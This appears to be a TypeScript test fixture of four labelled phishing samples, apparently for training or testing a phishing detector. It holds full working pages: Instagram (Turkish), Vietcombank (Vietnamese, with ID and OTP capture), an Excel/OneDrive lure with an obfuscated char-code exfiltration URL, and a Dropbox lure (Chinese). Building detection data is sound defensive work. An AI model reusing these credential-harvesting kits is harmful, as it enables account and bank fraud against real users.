import type { Entry } from '../entry.js';
import { builderBadge, builderHead, doc, htmlRoute, jsRoute, jsonRoute, pngRoute, redirectRoute } from '../parts/y-kit.js';

// Kits built on the host's site builder, and document-share lures sitting in its object-storage buckets.

const igHost = 'meta-copyright-itiraz.kestrel.site';
const vcbHost = 'vcb-digibank-xacthuc.kestrelapps.dev';
const odHost = 'fra1.kestrelstore.net';
const dbHost = 'sgp1.kestrelstore.net';

export const entries: Entry[] = [
  {
    id: 'y-builder-site-instagram-tr',
    label: 'phishing',
    kind: 'builder-kit',
    url: `https://${igHost}/`,
    routes: {
      [`${igHost}/`]: htmlRoute(doc({
        lang: 'tr',
        title: 'Instagram | Telif Hakkı İtiraz Formu',
        head: builderHead('ks_41c09e2d'),
        css: `body{margin:0;font-family:-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif;background:#fafafa;color:#262626}
.top{background:#fff;border-bottom:1px solid #dbdbdb;padding:12px 20px;font-family:"Billabong",cursive;font-size:28px}
.box{max-width:460px;margin:28px auto;background:#fff;border:1px solid #dbdbdb;padding:26px}
.w{background:#fdecea;color:#b71c1c;padding:12px;font-size:14px;border-radius:4px}
input,textarea{width:100%;padding:10px;margin:6px 0;border:1px solid #dbdbdb;border-radius:4px;background:#fafafa;box-sizing:border-box}
button{width:100%;background:#0095f6;color:#fff;border:0;padding:10px;border-radius:8px;font-weight:600;margin-top:8px}
.step2{display:none}`,
        body: `<div class="top">Instagram</div>
<div class="box">
<h3>Telif Hakkı İhlali Bildirimi</h3>
<div class="w">Hesabınızda paylaşılan bir gönderi telif hakkı ihlali nedeniyle şikayet edildi. <b>48 saat</b> içinde itiraz etmezseniz hesabınız kalıcı olarak kapatılacaktır.</div>
<form id="f">
<div class="step1"><p style="font-size:14px">İtiraz formunu doldurun:</p>
<input name="username" placeholder="Kullanıcı adı" required>
<input name="fullname" placeholder="Ad Soyad">
<input name="email" placeholder="E-posta" type="email">
<textarea name="msg" rows="3" placeholder="Açıklama (isteğe bağlı)"></textarea>
<button type="button" id="n1">İleri</button></div>
<div class="step2"><p style="font-size:14px">Hesap sahibi olduğunuzu doğrulamak için şifrenizi girin.</p>
<input name="password" type="password" placeholder="Şifre">
<button type="submit">İtirazı Gönder</button></div>
</form>
<p style="font-size:11px;color:#8e8e8e;text-align:center;margin-top:20px">© 2025 Instagram from Meta · Yardım Merkezi</p>
</div>
${builderBadge}
<script>
document.getElementById('n1').onclick=function(){document.querySelector('.step1').style.display='none';document.querySelector('.step2').style.display='block';};
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/_ks/forms/submit',{method:'POST',body:new FormData(this)}).then(function(){document.querySelector('.box').innerHTML='<h3>İtirazınız alındı</h3><p>Ekibimiz 24 saat içinde size dönüş yapacaktır.</p>';});};
</script>`,
      })),
      [`${igHost}/_ks/forms/submit`]: jsonRoute({ ok: true, id: 'sub_88213' }),
    },
  },
  {
    id: 'y-builder-site-vietcombank-vi',
    label: 'phishing',
    kind: 'free-app-kit',
    url: `https://${vcbHost}/dang-nhap`,
    routes: {
      [`${vcbHost}/dang-nhap`]: htmlRoute(doc({
        lang: 'vi',
        title: 'VCB Digibank - Xác thực sinh trắc học',
        css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f2f7f2}
.hd{background:#006b35;color:#fff;padding:14px 20px;font-weight:bold;font-size:18px}
.c{max-width:420px;margin:24px auto;background:#fff;border-radius:10px;padding:24px;box-shadow:0 2px 10px rgba(0,0,0,.08)}
.tb{background:#fff8e1;border-left:4px solid #f5a623;padding:10px;font-size:14px}
input{width:100%;padding:12px;border:1px solid #cfd8cf;border-radius:8px;margin:8px 0;box-sizing:border-box;font-size:15px}
button{width:100%;padding:13px;background:#006b35;color:#fff;border:0;border-radius:8px;font-size:16px;margin-top:8px}`,
        body: `<div class="hd">Vietcombank · VCB Digibank</div>
<div class="c">
<h3>Cập nhật sinh trắc học theo Quyết định 2345/QĐ-NHNN</h3>
<div class="tb">Từ ngày 01/01, các giao dịch chuyển tiền trên 10 triệu đồng bắt buộc xác thực sinh trắc học. Tài khoản chưa cập nhật sẽ bị <b>tạm khóa giao dịch</b>.</div>
<form id="f">
<input name="user" placeholder="Tên đăng nhập / Số điện thoại" required>
<input name="pass" type="password" placeholder="Mật khẩu" required>
<input name="cccd" placeholder="Số CCCD">
<button>Đăng nhập</button>
</form>
<div id="otp" style="display:none"><p>Nhập mã OTP đã gửi tới số điện thoại của quý khách:</p><input id="o" maxlength="6"><button id="ob">Xác nhận</button></div>
<p style="font-size:11px;color:#888;text-align:center">© Ngân hàng TMCP Ngoại thương Việt Nam · Hotline 1900 54 54 13</p>
</div>
<script src="/static/js/main.3f1a.js"></script>`,
      })),
      [`${vcbHost}/static/js/main.3f1a.js`]: jsRoute(`(function(){var api='/api/v1/auth';
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
fetch(api,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){document.getElementById('f').style.display='none';document.getElementById('otp').style.display='block';});});
document.getElementById('ob').addEventListener('click',function(){fetch(api+'/otp',{method:'POST',body:document.getElementById('o').value}).then(function(){location.href='https://www.vietcombank.com.vn/';});});})();`),
      [`${vcbHost}/api/v1/auth`]: jsonRoute({ next: 'otp' }),
      [`${vcbHost}/api/v1/auth/otp`]: jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'y-bucket-onedrive-excel',
    label: 'phishing',
    kind: 'bucket-doc-lure',
    url: `https://${odHost}/shared-docs-8817/OneDrive/Payment_Schedule_Q4.xlsx.html`,
    routes: {
      [`${odHost}/shared-docs-8817/OneDrive/Payment_Schedule_Q4.xlsx.html`]: {
        status: 200,
        headers: { 'content-type': 'text/html', 'x-amz-request-id': 'tx00000a81c2f3e0a1b4c', 'x-amz-meta-uploaded': 'web', server: 'KestrelStore' },
        body: doc({
          title: 'Excel Online - Payment_Schedule_Q4.xlsx',
          css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e9e9e9}
.ribbon{background:#217346;color:#fff;padding:8px 14px;font-size:14px}
.grid{filter:blur(3px);padding:10px;background:#fff;margin:0 10px}
.grid table{border-collapse:collapse;width:100%}.grid td{border:1px solid #ddd;padding:5px;font-size:12px}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.35);display:flex;align-items:center;justify-content:center}
.dlg{background:#fff;width:380px;padding:28px;box-shadow:0 8px 30px rgba(0,0,0,.4)}
input{width:100%;padding:9px;border:1px solid #888;margin:8px 0;box-sizing:border-box}
button{background:#217346;color:#fff;border:0;padding:9px 24px;float:right}`,
          body: `<div class="ribbon">&#9638; Excel &nbsp; Payment_Schedule_Q4.xlsx &nbsp; · &nbsp; Shared via OneDrive</div>
<div class="grid"><table>${Array.from({ length: 18 }, (_, i) => `<tr><td>${i + 1}</td><td>INV-${4410 + i}</td><td>Vendor ${String.fromCharCode(65 + (i % 26))}</td><td>$${(1200 + i * 317).toLocaleString('en-US')}.00</td><td>Net 30</td></tr>`).join('')}</table></div>
<div class="ov"><div class="dlg">
<b>Verify your identity</b>
<p style="font-size:13px">This file is protected. To view it, enter the email address and password associated with your Microsoft account.</p>
<form id="f"><input id="e" type="email" placeholder="someone@example.com" required><input id="p" type="password" placeholder="Password" required>
<div id="m" style="color:#c00;font-size:12px"></div><button>Next</button></form><div style="clear:both"></div>
</div></div>
<script>
var k=[104,116,116,112,115,58,47,47,102,114,97,49,46,107,101,115,116,114,101,108,115,116,111,114,101,46,110,101,116,47,115,104,97,114,101,100,45,100,111,99,115,45,56,56,49,55,47,99,111,108,108,101,99,116];
var u=String.fromCharCode.apply(null,k);
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();
var x=new XMLHttpRequest();x.open('POST',u,true);x.send(JSON.stringify({e:e.value,p:p.value}));
m.textContent='Incorrect password. Please try again.';p.value='';};
</script>`,
        }),
      },
      [`${odHost}/shared-docs-8817/collect`]: jsonRoute({ ok: true }),
    },
  },
  {
    id: 'y-bucket-dropbox-zh',
    label: 'phishing',
    kind: 'bucket-doc-lure',
    url: `https://${dbHost}/cdn-files-tw02/share/%E5%90%88%E7%B4%84%E6%9B%B8.html`,
    routes: {
      [`${dbHost}/cdn-files-tw02/share/%E5%90%88%E7%B4%84%E6%9B%B8.html`]: {
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8', server: 'KestrelStore' },
        body: doc({
          lang: 'zh-Hant',
          title: 'Dropbox - 合約書.pdf',
          css: `body{margin:0;font-family:"Microsoft JhengHei","PingFang TC",Arial,sans-serif;background:#f7f5f2}
.top{background:#fff;padding:12px 20px;border-bottom:1px solid #e6e2dc;color:#0061fe;font-weight:bold;font-size:20px}
.c{max-width:460px;margin:40px auto;background:#fff;padding:30px;border-radius:8px;text-align:center}
.f{background:#f0f4ff;padding:16px;border-radius:6px;margin:14px 0}
.opts button{display:block;width:100%;margin:8px 0;padding:11px;border:1px solid #ccc;background:#fff;border-radius:6px;font-size:15px}
#lg{display:none;text-align:left}input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}
.go{background:#0061fe;color:#fff;border:0;padding:11px;width:100%;border-radius:6px}`,
          body: `<div class="top">&#10070; Dropbox</div>
<div class="c">
<h2>有人與您共用了一個檔案</h2>
<div class="f">&#128196; <b>合約書_2025_簽署版.pdf</b><br><small>1.2 MB · 由 陳先生 分享</small></div>
<p style="font-size:14px;color:#555">請選擇您的電子郵件服務商登入以下載檔案</p>
<div class="opts"><button data-m="outlook">以 Outlook 登入</button><button data-m="yahoo">以 Yahoo 奇摩 登入</button><button data-m="gmail">以 Gmail 登入</button><button data-m="other">其他電子郵件</button></div>
<form id="lg" method="post" action="https://${dbHost}/cdn-files-tw02/share/r.php">
<input name="email" type="email" placeholder="電子郵件地址" required><input name="pwd" type="password" placeholder="密碼" required>
<input type="hidden" name="m" id="m"><button class="go">下載檔案</button></form>
<p style="font-size:11px;color:#999;margin-top:20px">© 2025 Dropbox, Inc. · 隱私權 · 條款</p>
</div>
<script>document.querySelectorAll('.opts button').forEach(function(b){b.onclick=function(){document.getElementById('m').value=b.dataset.m;document.querySelector('.opts').style.display='none';document.getElementById('lg').style.display='block';}});</script>`,
        }),
      },
      [`${dbHost}/cdn-files-tw02/share/r.php`]: redirectRoute(302, 'https://www.dropbox.com/'),
    },
  },
];
